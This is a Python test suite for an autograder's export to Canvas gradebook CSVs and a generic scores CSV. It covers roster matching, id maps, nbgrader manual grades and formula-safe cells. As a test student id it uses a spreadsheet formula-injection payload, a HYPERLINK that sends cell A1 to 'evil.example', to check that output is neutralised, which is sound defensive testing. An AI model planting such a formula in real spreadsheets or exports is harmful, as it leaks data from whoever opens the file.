"""``autograder export``: Canvas's gradebook import file and a generic per-student CSV.

* Canvas: header ``Student, ID, SIS User ID, SIS Login ID, Section, <Name (assignment id)>``,
  a ``Points Possible`` row, one row per student; a roster (Canvas's own export) fills the ids;
* scores: autograded points from ``grades.csv``, what people gave in nbgrader's gradebook
  (written answers, overrides, extra credit, late penalty) when a gradebook is given;
* every cell is formula-safe, whatever a student id or a name holds.
"""
import csv
import io
import os
import subprocess
import sys
import tempfile

import pytest

from support.slow import slow_fixture

from autograder.adapters import export
from autograder.core import totals
from autograder.pipeline.source_tests import SourceTests
from conftest import ROOT
from autograder.run.write import csv_text
from autograder.core.results import GRADES_COLUMNS

AUTOGRADER = os.path.join(os.path.dirname(sys.executable), "autograder")
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _source_points():
    st = SourceTests(ROOT)
    tests = [(nb, t.grade_id, t.points) for nb in st.notebooks() for t in st.tests(nb)]
    manual = [(nb, m.grade_id, m.points) for nb in st.notebooks() for m in st.manual(nb)]
    return tests, manual


TESTS, MANUAL = _source_points()
AUTO_MAX = round(sum(p for _, _, p in TESTS), 2)            # every test, optional ones included
SCHEME = totals.scheme(ROOT)
OPTIONAL = {(c.notebook, c.grade_id) for c in SCHEME.cells if c.optional}
REQUIRED_MANUAL = [m for m in MANUAL if m[:2] not in OPTIONAL]
# The denominator: required points only (autograder.core.totals); optional work is earned above it.
POSSIBLE = round(sum(p for nb, gid, p in TESTS + MANUAL if (nb, gid) not in OPTIONAL), 2)


def write_grades(out, students):
    """A grades.csv as the kit writes it: {student: fraction of each test's points}."""
    rows = []
    for sid, frac in students.items():
        for nb, gid, pts in TESTS:
            rows.append([sid, "pooling", nb, gid, round(pts * frac, 2), pts, "passed" if frac == 1 else "failed",
                         "-msg", "", "", 0.1, "solution_copy" if sid == "bob" else ""])
    out.mkdir(parents=True, exist_ok=True)
    (out / "grades.csv").write_text(csv_text(GRADES_COLUMNS, rows), encoding="utf-8")
    return out


def read(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def assert_formula_safe(rows):
    for row in rows:
        for cell in row:
            if cell and cell[0] in "=+-@\t\r\n":
                float(cell)          # only a number may start so (e.g. -1.5)


def run_cli(*args, cwd=None):
    """`autograder export ...` run in `cwd` (default: a fresh folder: no gradebook.db found by default)."""
    if cwd is None:
        with tempfile.TemporaryDirectory(prefix="export-cwd-") as fresh:
            return run_cli(*args, cwd=fresh)
    return subprocess.run([AUTOGRADER, "export", *map(str, args)], capture_output=True, text=True, cwd=cwd,
                          timeout=120)


@pytest.fixture
def out_dir(tmp_path):
    return write_grades(tmp_path / "out", {"alice": 1.0, "bob": 0.5, HOSTILE: 0.25})


# ------------------------------------------------------------------ Canvas

def test_canvas_columns_and_points_possible(out_dir):
    proc = run_cli(out_dir, "--to", "canvas", "--assignment-name", "Pooling 汇聚层", "--assignment-id", "4242")
    assert proc.returncode == 0, proc.stderr
    rows = read(out_dir / "canvas.csv")
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Pooling 汇聚层 (4242)"]
    assert rows[1][0].strip() == "Points Possible" and rows[1][1:5] == ["", "", "", ""]
    assert float(rows[1][5]) == POSSIBLE and POSSIBLE < AUTO_MAX + sum(p for _, _, p in MANUAL)
    by_login = {r[3]: r for r in rows[2:]}
    assert float(by_login["alice"][5]) == AUTO_MAX
    assert float(by_login["bob"][5]) == pytest.approx(AUTO_MAX / 2, abs=0.05)
    assert all(len(r) == 6 for r in rows)
    assert_formula_safe(rows)
    assert "'" + HOSTILE in by_login           # neutralised, and read back by csv_uncell
    assert "written answer" in proc.stderr   # no gradebook: the pending answers are said


def test_canvas_new_assignment_column_is_the_name(out_dir):
    assert run_cli(out_dir, "--to", "canvas", "--assignment-name", "汇聚层  作业").returncode == 0
    assert read(out_dir / "canvas.csv")[0][5] == "汇聚层 作业"


def test_canvas_roster_fills_the_ids(out_dir, tmp_path):
    roster = tmp_path / "export.csv"
    roster.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,Pooling (4242),Current Score\r\n"
        "    Points Possible,,,,,32,(read only)\r\n"
        '"Li, Wei",101,S-1,alice,Sec A,,\r\n'
        '"Wang, Fang",102,S-2,bob,Sec B,3,\r\n'
        '"Zhao, Lei",103,S-3,zhao,Sec A,,\r\n'
        '"Student, Test",999,,,,,\r\n', encoding="utf-8")
    proc = run_cli(out_dir, "--to", "canvas", "--assignment-id", "4242", "--roster", roster,
                   "--out", tmp_path / "import.csv")
    assert proc.returncode == 0, proc.stderr
    rows = read(tmp_path / "import.csv")
    assert rows[2] == ["Li, Wei", "101", "S-1", "alice", "Sec A", str(float(AUTO_MAX))]
    assert rows[3][:5] == ["Wang, Fang", "102", "S-2", "bob", "Sec B"]
    assert rows[4] == ["Zhao, Lei", "103", "S-3", "zhao", "Sec A", ""]     # no grade: Canvas leaves it
    assert len(rows) == 5                                                   # no test student, no stranger
    assert "not in the roster" in proc.stderr and "left blank" in proc.stderr


def test_canvas_match_by_sis_user_id(out_dir, tmp_path):
    roster = tmp_path / "export.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\r\n"
                      "Alice,1,alice,a@example.edu,\r\n", encoding="utf-8")
    assert run_cli(out_dir, "--to", "canvas", "--roster", roster, "--match-by", "SIS User ID").returncode == 0
    rows = read(out_dir / "canvas.csv")
    assert rows[2] == ["Alice", "1", "alice", "a@example.edu", "", str(float(AUTO_MAX))]


def test_canvas_id_map_maps_hub_accounts_to_canvas_logins(out_dir, tmp_path):
    """Hub accounts (the kit's ids: alice, bob) are not Canvas's logins (li.wei, wang.fang): --id-map."""
    roster = tmp_path / "export.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\r\n"
                      '"Li, Wei",101,S-1,li.wei,A\r\n"Wang, Fang",102,S-2,wang.fang,A\r\n', encoding="utf-8")
    ids = tmp_path / "ids.csv"
    ids.write_text("student_id,SIS Login ID\nalice,li.wei\nbob,wang.fang\n", encoding="utf-8")
    proc = run_cli(out_dir, "--to", "canvas", "--roster", roster, "--id-map", ids)
    assert proc.returncode == 0, proc.stderr
    rows = read(out_dir / "canvas.csv")
    assert rows[2] == ["Li, Wei", "101", "S-1", "li.wei", "A", str(float(AUTO_MAX))]
    assert float(rows[3][5]) == pytest.approx(AUTO_MAX / 2, abs=0.05)
    # without the map nobody matches; a map that names one login twice is refused
    assert run_cli(out_dir, "--to", "canvas", "--roster", roster, "--out", tmp_path / "x.csv").returncode == 0
    assert [r[5] for r in read(tmp_path / "x.csv")[2:]] == ["", ""]
    ids.write_text("student_id,SIS Login ID\nalice,li.wei\nbob,li.wei\n", encoding="utf-8")
    proc = run_cli(out_dir, "--to", "canvas", "--roster", roster, "--id-map", ids)
    assert proc.returncode == 2 and "twice" in proc.stderr


def test_bad_arguments_exit_2(out_dir, tmp_path):
    assert run_cli(tmp_path / "nowhere", "--to", "csv").returncode == 2
    proc = run_cli(out_dir, "--to", "canvas", "--assignment-id", "=1+1")
    assert proc.returncode == 2 and "numeric" in proc.stderr
    bad = tmp_path / "bad.csv"
    bad.write_text("name,score\r\nx,1\r\n", encoding="utf-8")
    proc = run_cli(out_dir, "--to", "canvas", "--roster", bad)
    assert proc.returncode == 2 and "not a Canvas gradebook export" in proc.stderr
    assert not (out_dir / "canvas.csv").exists()


# ------------------------------------------------------------------ the gradebook: what people graded

@slow_fixture
def gradebook(tmp_path, fresh_gradebook):
    """An nbgrader gradebook with the course's cells; people graded some written answers."""
    from nbgrader.api import Gradebook
    path = tmp_path / "gradebook.db"
    with Gradebook(fresh_gradebook) as gb:
        gb.add_assignment("pooling")
        for nb in sorted({n for n, _, _ in TESTS + MANUAL}):
            gb.add_notebook(nb, "pooling")
        for nb, gid, pts in TESTS:      # an optional cell is worth 0 to nbgrader (its points: extra credit)
            gb.add_grade_cell(gid, nb, "pooling", max_score=0 if (nb, gid) in OPTIONAL else pts, cell_type="code")
        for nb, gid, pts in MANUAL:
            gb.add_grade_cell(gid, nb, "pooling", max_score=0 if (nb, gid) in OPTIONAL else pts,
                              cell_type="markdown")
        gb.add_student("alice", first_name="Wei", last_name="Li", email="li@example.edu", lms_user_id="101")
        gb.add_student("bob", first_name="Fang", last_name="Wang")
        gb.add_student("nobody", first_name="No", last_name="Show")      # enrolled, never submitted
        for sid in ["alice", "bob"]:
            gb.add_submission("pooling", sid)
        manual_ids = {gid for _, gid, _ in MANUAL}
        for sid in ["alice", "bob"]:
            for nbsub in gb.find_submission("pooling", sid).notebooks:
                for g in nbsub.grades:
                    if sid == "alice" and g.name in manual_ids:
                        g.manual_score = 1.5                               # every written answer: 1.5
                    if sid == "bob" and g.name == TESTS[0][1]:
                        g.auto_score, g.manual_score = TESTS[0][2] * 0.5, TESTS[0][2]   # a person raised it
                        g.extra_credit = 0.5
        gb.db.commit()
    return path


def test_generic_csv_with_the_gradebook(out_dir, gradebook, tmp_path):
    proc = run_cli(out_dir, "--to", "csv", "--gradebook", gradebook)
    assert proc.returncode == 0, proc.stderr
    rows = read(out_dir / "scores.csv")
    assert rows[0] == export.GENERIC_COLUMNS
    by_id = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    a, b, n = by_id["alice"], by_id["bob"], by_id["nobody"]
    assert (a["last_name"], a["first_name"], a["email"], a["lms_user_id"]) == ("Li", "Wei", "li@example.edu", "101")
    assert float(a["manual"]) == 1.5 * len(REQUIRED_MANUAL) and a["manual_pending"] == "0"
    # the optional written answer a person graded is optional points, beside the optional tests
    optional_tests = sum(p for nb, gid, p in TESTS if (nb, gid) in OPTIONAL)
    assert float(a["optional"]) == optional_tests + 1.5 * (len(MANUAL) - len(REQUIRED_MANUAL))
    assert float(a["total"]) == AUTO_MAX + 1.5 * len(MANUAL)
    assert float(a["max_total"]) == POSSIBLE
    assert b["manual_pending"] == str(len(MANUAL)) and b["flags"] == "solution_copy"
    # bob: half of every test from grades.csv, plus the person's raise on the first test, plus extra credit
    first = TESTS[0][2]
    assert float(b["adjustment"]) == first - first * 0.5
    assert float(b["total"]) == pytest.approx(float(b["autograded"]) + float(b["optional"]) + first * 0.5 + 0.5,
                                              abs=0.011)
    assert float(b["optional"]) == pytest.approx(sum(p for nb, gid, p in TESTS if (nb, gid) in OPTIONAL) / 2,
                                                 abs=0.011)
    assert float(n["total"]) == 0 and n["notebooks_graded"] == "0"
    assert_formula_safe(rows)
    assert "'" + HOSTILE in by_id


def test_gradebook_is_found_in_the_course_directory(out_dir, gradebook):
    """Run from the course directory, the export reads its gradebook.db without being told."""
    proc = run_cli(out_dir, "--to", "canvas", cwd=gradebook.parent)
    assert proc.returncode == 0, proc.stderr
    rows = read(out_dir / "canvas.csv")
    alice = next(r for r in rows if r[3] == "alice")
    assert alice[:2] == ["Li, Wei", "101"] and float(alice[5]) == AUTO_MAX + 1.5 * len(MANUAL)


def test_export_is_light():
    """Importing the export (and the CLI's parser) pulls in neither torch nor nbgrader."""
    code = ("import sys; import autograder.cli.commands as c; c._parser(); import autograder.adapters.export;"
            "print(sorted(m for m in ('torch', 'nbgrader', 'numpy', 'dask') if m in sys.modules))")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert proc.stdout.strip() == "[]", proc.stdout + proc.stderr


def test_csv_cells_roundtrip(out_dir, gradebook):
    """The generic CSV reads back to the same values through csv_uncell."""
    from autograder.run.write import csv_uncell
    scores, maxima = export.collect(out_dir, gradebook, warn=lambda m: None)
    text = export.generic_csv(scores, maxima)
    rows = list(csv.reader(io.StringIO(text)))
    ids = sorted(csv_uncell(r[0]) for r in rows[1:])
    assert ids == sorted(scores)
